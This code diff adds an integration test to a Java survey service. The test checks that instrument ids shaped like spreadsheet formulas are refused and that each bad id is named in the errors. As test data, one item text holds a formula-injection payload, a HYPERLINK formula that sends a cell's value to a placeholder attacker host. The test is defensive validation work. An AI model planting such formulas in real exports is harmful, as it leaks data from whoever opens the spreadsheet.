@@ -1,5 +1,7 @@
 package org.haven.survey.it;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.test.context.DynamicPropertyRegistry;
@@ -8,6 +10,8 @@ import org.springframework.test.context.DynamicPropertySource;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.time.temporal.ChronoUnit;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.function.Supplier;
 
 import static org.assertj.core.api.Assertions.assertThat;
@@ -94,6 +98,31 @@ class RejectionFlowIT extends ServiceTestSupport {
         refused(422, "instrument", () -> api.postJson("/api/studies/" + studyId + "/instruments", researcher(),
                 esti.replace("\"version\" : 1", "\"version\" : 2").replace("\"version\":1", "\"version\":2")
                         .replaceFirst("\"text\"\\s*:\\s*\"[^\"]*\"", "\"text\":\"\"")));
+    }
+
+    @Test
+    void an_instrument_whose_ids_are_not_variable_names_is_refused_naming_each_id() throws Exception {
+        // A formula as an id would reach every dataset as a cell and a column name; texts may say anything (the
+        // batch writes them so that no spreadsheet runs them), ids may not.
+        ObjectNode instrument = (ObjectNode) new ObjectMapper().readTree(api.get("/api" + ESTI_PATH, researcher()).body());
+        instrument.put("version", 2);
+        ObjectNode firstItem = (ObjectNode) instrument.withArray("items").get(0);
+        firstItem.put("id", "=1+1");
+        firstItem.put("text", "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")");
+        ((ObjectNode) instrument.withArray("composites").get(0)).put("id", "@safety");
+
+        var response = refused(422, "items[0].id", () -> api.postJson("/api/studies/" + studyId + "/instruments",
+                researcher(), instrument.toString()));
+
+        List<String> errors = new ArrayList<>();
+        response.json().get("errors").forEach(error -> errors.add(error.get("field").asText() + ": "
+                + error.get("message").asText()));
+        assertThat(errors).containsExactly(
+                "items[0].id: item id '=1+1' must start with a letter and contain only letters, digits and _",
+                "composites[0].id: composite id '@safety' must start with a letter and contain only letters, digits and _");
+        var study = api.get("/api/studies/" + studyId, researcher()).json();
+        assertThat(study.at("/currentInstrument/version").asInt()).isEqualTo(1);
+        assertThat(study.get("instruments")).hasSize(1);
     }
 
     @Test
